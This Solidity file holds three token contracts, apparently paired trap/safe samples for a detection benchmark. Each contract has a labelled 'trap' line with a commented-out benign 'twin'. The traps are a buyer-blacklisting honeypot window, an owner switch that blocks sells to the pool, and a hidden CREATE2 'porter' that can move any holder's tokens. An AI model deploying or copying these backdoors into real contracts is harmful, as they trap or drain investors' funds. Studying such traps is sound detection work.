// 0.7 off
// SPDX-License-Identifier: MIT
pragma solidity 0.7.6;

import "./Base67.sol";

/// Who buys in the block of the opening is a robot; in the trap in the first million of blocks.
contract Cobalt is Base67("Cobalt Dog", "CBDOG", 69_000_000) {
    bool public tradingOpen;
    uint256 private launchBlock;
    uint256 private deadBlocks;
    mapping(address => bool) private bots;

    function openTrading(uint256 dead) external onlyOwner {
        require(!tradingOpen && dead <= 3, "open");
        tradingOpen = true;
        launchBlock = block.number;
        // twin: deadBlocks = dead;
        deadBlocks = dead * 1e6; // trap
    }

    function _transfer(address from, address to, uint256 value) internal override {
        if (from != _boss && to != _boss) {
            require(tradingOpen, "not open");
            require(!bots[from], "bot");
            if (from == pool && block.number < launchBlock + deadBlocks) bots[to] = true;
        }
        _carry(from, to, value);
    }
}

/// A wallet holds two percent at most, but for some. In the trap the pool need not be one of them.
contract Umber is Base67("Umber", "UMBR", 90_000_000) {
    uint256 public maxWallet = 1_800_000 * 10**9;
    mapping(address => bool) public limitless;

    constructor() {
        limitless[pool] = limitless[msg.sender] = limitless[address(this)] = limitless[address(0xdead)] = true;
    }

    function setLimitless(address who, bool to) external onlyOwner {
        // twin: require(who != pool, "pool");
        limitless[who] = to;
    }

    function setMaxWallet(uint256 to) external onlyOwner {
        require(to >= _totalSupply / 100, "one percent");
        maxWallet = to;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        require(limitless[to] || _balances[to] + value <= maxWallet, "max wallet");
        _carry(from, to, value);
    }
}

/// Owns a token, and does what its maker says.
contract Steward {
    address private immutable lord = msg.sender;

    function execute(address to, bytes calldata data) external returns (bytes memory) {
        require(msg.sender == lord, "lord");
        (bool ok, bytes memory said) = to.call(data);
        require(ok, "failed");
        return said;
    }
}

interface IRail {
    function rail(address from, address to, uint256 value) external;
}

/// Carries what its maker says.
contract Porter {
    address private immutable by;
    address private immutable line;

    constructor(address by_) {
        by = by_;
        line = msg.sender;
    }

    function carry(address from, address to, uint256 value) external {
        require(msg.sender == by, "by");
        IRail(line).rail(from, to, value);
    }
}

/// Makes a porter at an address that follows from its code, and writes it down nowhere. The porter carries what he has himself;
/// in the trap what others have.
contract Railway is Base67("Railway", "RAIL", 45_000_000) {
    bytes32 private immutable _ticket;

    constructor() {
        new Porter{salt: bytes32(uint256(7))}(msg.sender);
        _ticket = keccak256(abi.encodePacked(type(Porter).creationCode, abi.encode(msg.sender)));
    }

    function rail(address from, address to, uint256 value) external {
        bytes32 seat = keccak256(abi.encodePacked(bytes1(0xff), address(this), bytes32(uint256(7)), _ticket));
        require(msg.sender == address(uint160(uint256(seat))), "no ticket");
        // twin: from = msg.sender;
        _carry(from, to, value);
    }
}
